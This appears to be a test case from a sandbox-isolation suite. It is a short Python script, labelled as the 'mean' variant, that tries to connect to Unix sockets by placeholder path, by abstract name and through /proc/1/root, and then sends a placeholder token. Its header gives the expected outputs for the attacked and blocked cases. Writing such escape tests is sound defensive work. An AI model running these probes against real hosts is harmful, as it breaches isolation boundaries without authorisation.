# ---
# about: connects to a unix socket outside, by its path and by an abstract name
# proof: "ATTACK RAN, connected: \\[\\]"
# stock: "not run: uses the network"
# ---

# %% mean
import socket

done = []
for address in ("@SOCKET@", "\0@ABSTRACT@", "/proc/1/root@SOCKET@"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(1)
        connection.connect(address)
        connection.send(b"@TOKEN@")
        done.append(address)
    except OSError as error:
        print(error)
print("ATTACK RAN, connected:", done)
